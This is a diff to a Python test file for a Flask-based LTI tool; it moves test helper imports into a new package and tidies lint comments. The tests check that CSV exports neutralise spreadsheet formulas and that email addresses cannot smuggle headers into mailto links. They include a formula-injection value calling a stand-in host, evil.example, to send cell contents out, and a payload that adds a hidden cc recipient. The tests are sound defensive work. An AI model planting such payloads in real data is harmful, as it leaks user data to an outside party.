@@ -25,12 +25,11 @@ from lti_tool.extensions import db
 from lti_tool.kpis.reports import to_csv
 from lti_tool.models import Person
 from lti_tool.platforms import PlatformError, parse_jwks
-from tests.conftest import https_client
-from tests.lti_platform import FakePlatform
-from tests.processes import ROOT, free_port
-from tests.test_admin import add_admin, sign_in
-from tests.test_api import bearer, make_token
-from tests.test_learners_page import seeded  # noqa: F401 (a fixture)
+from tests.helpers.admin import add_admin, sign_in
+from tests.helpers.api import bearer, make_token
+from tests.helpers.client import https_client
+from tests.helpers.platform import FakePlatform
+from tests.helpers.processes import ROOT, free_port
 
 ANY = "0.0.0.0"  # noqa: S104 (the address that listens everywhere)
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -64,7 +63,7 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised() -> None:
 def test_learners_and_address_csv_exports_neutralise_formulas(
     app: Flask,
     client: FlaskClient,
-    seeded: dict[str, Any],  # noqa: F811
+    seeded: dict[str, Any],
 ) -> None:
     _rename(app, seeded["A"], EVIL_NAME, "@evil@example.edu")
     learners = client.get(f"/courses/1/learners.csv?t={seeded['t']}")
@@ -85,7 +84,7 @@ def test_learners_and_address_csv_exports_neutralise_formulas(
 def test_an_address_cannot_smuggle_headers_into_mailto_links(
     app: Flask,
     client: FlaskClient,
-    seeded: dict[str, Any],  # noqa: F811
+    seeded: dict[str, Any],
 ) -> None:
     _rename(app, seeded["A"], "Ada A", EVIL_EMAIL)
     encoded = "a@example.edu%3Fcc%3Dspy@evil.example%26body%3Dhi"
@@ -160,7 +159,7 @@ def test_json_nested_deeper_than_allowed_is_a_400(
 def test_a_page_number_or_id_past_any_is_a_400_not_a_500(
     app: Flask,
     client: FlaskClient,
-    seeded: dict[str, Any],  # noqa: F811
+    seeded: dict[str, Any],
 ) -> None:
     huge = "99999999999999999999"
     t = seeded["t"]
